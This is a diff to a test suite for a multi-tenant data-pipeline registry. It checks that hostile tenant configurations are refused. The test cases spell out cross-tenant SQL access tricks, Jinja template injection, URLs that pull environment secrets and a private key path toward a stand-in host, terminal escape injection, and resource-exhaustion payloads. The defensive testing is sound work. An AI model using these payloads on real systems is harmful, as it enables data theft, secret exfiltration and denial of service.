@@ -2,11 +2,15 @@
 that was accepted before there was the rule, and where that tenant alone is loaded."""
 
 from collections.abc import Callable
+from dataclasses import replace
 from datetime import date
 from pathlib import Path
 
 import pytest
 
+from convergence_assets.assets.factory import build_assets
+from convergence_assets.scheduling.launching import build_scheduling
+from convergence_assets.settings import Settings
 from convergence_assets.tenancy.loading import Settled
 from convergence_assets.tenancy.registry import load_registry
 
@@ -39,7 +43,49 @@ def expectation(type_: str, kwargs: str) -> Change:
     return (SUITE, "expectations:\n", f"expectations:\n  - type: {type_}\n    kwargs: {{column: vendor, {kwargs}}}\n")
 
 
+SQL = "pipelines/total_cost/total_cost_daily.sql"
+FROM = "FROM services AS s\n"
+SOURCE = """
+sources:
+  src:
+    table: mallory_own.src
+    partition_column: %s
+    ingestion_time_from: at
+    columns: [{name: at, type: TIMESTAMP}]
+
+steps:
+"""
+
+
+def sql(text: str) -> Change:
+    return (SQL, FROM, text + "\n")
+
+
+def query(text: str) -> Change:
+    check = f"expectations:\n  - type: unexpected_rows_expectation\n    severity: info\n    meta: {{name: probe}}\n    kwargs: {{unexpected_rows_query: {text!r}}}\n"
+    return (SUITE, "expectations:\n", check)
+
+
 HOSTILE: dict[str, Change] = {
+    "another's table by an alias of its dataset": sql(
+        "FROM globex.gcp_cost_daily AS s CROSS JOIN licences AS globex CROSS JOIN services"),
+    "another's table by a CTE of its dataset": sql("FROM services AS s CROSS JOIN (WITH globex AS (SELECT 1 AS a) SELECT * FROM globex.gcp_cost_daily)"),
+    "another's table within a subquery": sql(
+        "FROM services AS s CROSS JOIN (SELECT 1 FROM globex.gcp_cost_daily) AS g CROSS JOIN licences AS globex"),
+    "another project's table by an alias": sql("FROM services AS s CROSS JOIN p.globex.t AS x CROSS JOIN licences AS p"),
+    "everybody's jobs by an alias": sql(
+        "FROM services AS s, `region-eu`.INFORMATION_SCHEMA.JOBS AS j CROSS JOIN licences AS `region-eu`"),
+    "another's table in a check": query(
+        "WITH globex AS (SELECT 1 AS a) SELECT usage_date, service_description FROM globex.gcp_cost_daily"),
+    "another's table beside the batch": query("SELECT g.* FROM globex.gcp_cost_daily AS g CROSS JOIN {batch} AS globex"),
+    "SQL in the name of a column": (
+        PIPELINE, "\nsteps:\n", SOURCE % "'CAST(NULL AS DATE) AS z FROM b.e UNION ALL SELECT at'"),
+    "a template of messages, with a sign": route("workflows://h.example/A/B?template+=/srv/landing/globex/x.json"),
+    "a template of messages, escaped twice": route("workflows://h.example/A/B?te%256Dplate=/srv/x.json"),
+    "a key of mails, with a sign": route("mailto://h.example?from=a@b.example&to=c@d.example&pgpprv+=/root/key"),
+    "a table that Dagster cannot name": table("mallory_x.a$b-c"),
+    "a terminal's commands": (TENANT, "display_name: Initech", 'display_name: "x\\e[2J\\r\\nacme: all fine"'),
+    "a name of a kilobyte": (TENANT, "display_name: Initech", f"display_name: {'x' * 1000}"),
     "the admin key": route("jsons://h.example/${env:CONVERGENCE_ADMIN_KEY}"),
     "the metrics token": route("jsons://h.example/${env:CONVERGENCE_METRICS_TOKEN}"),
     "a cloud key": route("jsons://h.example/${env:AWS_SECRET_ACCESS_KEY}"),
@@ -176,3 +222,112 @@ def test_all_of_it_at_once_delays_nobody(tenants: Path, mallory: Callable[[Chang
     registry = load_registry(str(tenants), None, today=TODAY)
     assert OTHERS - {"globex"} <= set(registry.tenants)
     assert len(registry.rejected) >= len(HOSTILE)
+
+
+def template(text: str) -> Change:
+    return (SQL, "WITH costs", text + "\nWITH costs")
+
+
+LOOP = "{% set l = range(90000)|list %}{% for i in range(900) %}{% if CONDITION %}x{% endif %}{% endfor %}"
+SLOW: dict[str, Change] = {
+    "a power of a power": template("{{ 9**(9**9) }}"),
+    "a text of a gigabyte": template("{{ ''|center(1200000000) }}"),
+    "Python's own classes": template("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
+    "a list searched again and again": template(LOOP.replace("CONDITION", " or ".join(["-1 in l"] * 40))),
+    "two lists compared again and again": template(
+        "{% set m = range(90000)|list %}" + LOOP.replace("CONDITION", " or ".join(["l != m"] * 40))),
+    "a list tested again and again": template(LOOP.replace("CONDITION", " or ".join(["-1 is in(l)"] * 40))),
+    "a list cut again and again": template(LOOP.replace("CONDITION", " or ".join(["l[1:] == 1"] * 40))),
+    "twenty thousand expressions": template("{{1}}" * 20_000),
+    "a dictionary of twenty thousand": template("{% set d = {" + ", ".join(f"'k{i}': 1" for i in range(20_000)) + "} %}"),
+    "a table joined thousands of times": sql("FROM services AS s, " + ", ".join(f"licences AS a{i}" for i in range(4_500))),
+    "thousands of brackets left open": (
+        TENANT, "plan: starter", "plan: starter\nx: aaa\n" + " b[\n" * 40_000 + "y: {a: [}"),
+    "thousands of lines out of line": (
+        TENANT, "plan: starter", "plan: starter\nx: aaa\n" + "    c\n   c\n  c\n c\n" * 10_000 + "y: : :"),
+    "thousands of tables read as one": (
+        PIPELINE, "\nsteps:\n", (SOURCE % "at").replace(
+            "mallory_own.src", "\"{% for i in range(1900) %}mallory_x.t{{i}}, {% endfor %}mallory_x.z\"")),
+}  # fmt: skip
+
+
+@pytest.mark.timeout(20)
+@pytest.mark.parametrize("change", SLOW.values(), ids=SLOW)
+def test_what_would_take_long_is_refused_before_it_does(
+    tenants: Path, mallory: Callable[[Change | None], Path], change: Change
+) -> None:
+    folder = mallory(change)
+    registry = load_registry(str(tenants), None, today=TODAY)
+    problems = registry.rejected["mallory"].problems
+    assert problems
+    assert all(problem.file.startswith(str(folder)) for problem in problems)
+
+
+@pytest.mark.timeout(20)
+def test_many_checks_of_one_name_and_many_large_patterns_are_read_in_their_time(
+    tenants: Path, mallory: Callable[[Change | None], Path]
+) -> None:
+    folder = mallory(None)
+    column = "  - type: expect_column_values_to_not_be_null\n    severity: info\n    kwargs: {column: vendor}\n"
+    patterns = ", ".join(f"'[\\p{{L}}]{{50,{n}}}N'" for n in range(100, 400))
+    kwargs = f"{{column: vendor, regex_list: [{patterns}]}}"
+    listed = f"  - type: expect_column_values_to_match_regex_list\n    severity: info\n    kwargs: {kwargs}\n"
+    suite = folder / SUITE
+    suite.write_text(suite.read_text().rstrip() + "\n" + column * 3_000 + listed)
+    load_registry(str(tenants), None, today=TODAY)
+
+
+def test_a_tenant_has_a_bound_on_all_of_its_sql(tenants: Path, mallory: Callable[[Change | None], Path]) -> None:
+    folder = mallory(None)
+    pipeline = folder / PIPELINE
+    head, last = pipeline.read_text().rsplit("  - kind: bigquery\n", 1)
+    text = (folder / SQL).read_text()
+    long = text.replace("FROM services AS s", f"FROM services AS s\nWHERE s.service != '{'x' * 190_000}'")
+    steps = ""
+    for number in range(4):
+        steps += "  - kind: bigquery\n" + last.replace("total_cost_daily", f"total_cost_{number}")
+        (folder / "pipelines" / "total_cost" / f"total_cost_{number}.sql").write_text(long)
+    pipeline.write_text(head + steps)
+    (folder / "pipelines" / "total_cost" / "expectations" / "total_cost_daily.yaml").unlink()
+    (folder / SQL).unlink()
+    problems = load_registry(str(tenants), None, today=TODAY).rejected["mallory"].problems
+    assert [p.message for p in problems] == ["the tenant's SQL has more than 500000 characters in all"], problems
+
+
+def test_two_of_a_tenants_tables_with_one_name_in_dagster_are_refused(
+    tenants: Path, mallory: Callable[[Change | None], Path]
+) -> None:
+    folder = mallory(None)
+    own = folder / "pipelines" / "total_cost"
+    for name, made in (("foo", "bar__baz"), ("foo__bar", "baz")):
+        target = folder / "pipelines" / name
+        target.mkdir()
+        files, _ = (own / "pipeline.yaml").read_text().split("  - kind: bigquery\n", 1)
+        (target / "pipeline.yaml").write_text(
+            files.replace("name: total_cost", f"name: {name}").replace("licences\n", f"{made}\n", 1)
+        )
+    with (folder / TENANT).open("a") as file:
+        file.writelines(f"  - template: {name}\n    start_date: 2026-10-01\n" for name in ("foo", "foo__bar"))
+    messages = [p.message for p in load_registry(str(tenants), None, today=TODAY).rejected["mallory"].problems]
+    assert messages == ["foo__bar/baz and foo/bar__baz have one name in Dagster"]
+
+
+def test_a_schedule_is_the_same_however_it_is_spaced(tenants: Path, mallory: Callable[[Change | None], Path]) -> None:
+    mallory((TENANT, '"0 7 * * *"', '" 0  7 * * * "'))
+    registry = load_registry(str(tenants), None, today=TODAY)
+    assert registry.tenants["mallory"].pipelines[1].schedule == "0 7 * * *"
+    schedules, _ = build_scheduling(registry, Settings.from_env({}))
+    assert len({schedule.name for schedule in schedules}) == len(schedules)
+
+
+def test_a_tenant_whose_assets_dagster_does_not_take_is_set_aside_and_the_others_live(tenants: Path) -> None:
+    registry = load_registry(str(tenants), None, today=TODAY)
+    globex, acme = registry.tenants["globex"], registry.tenants["acme"]
+    step = globex.pipelines[0].steps[0]
+    own = replace(acme.pipelines[0], steps=(replace(step, table="c"),))
+    first = replace(acme, pipelines=(replace(own, name="a__b"),))
+    second = replace(acme, tenant_id="acme__a", pipelines=(replace(own, name="b"),))
+    both = replace(registry, tenants={"acme": first, "acme__a": second, "globex": globex})
+    keys = {asset.key.to_user_string() for asset in build_assets(both, Settings.from_env({}))}
+    assert {"acme/a__b/c", "acme__a/config", "globex/gcp_billing/gcp_focus"} <= keys
+    assert "acme__a/b/c" not in keys
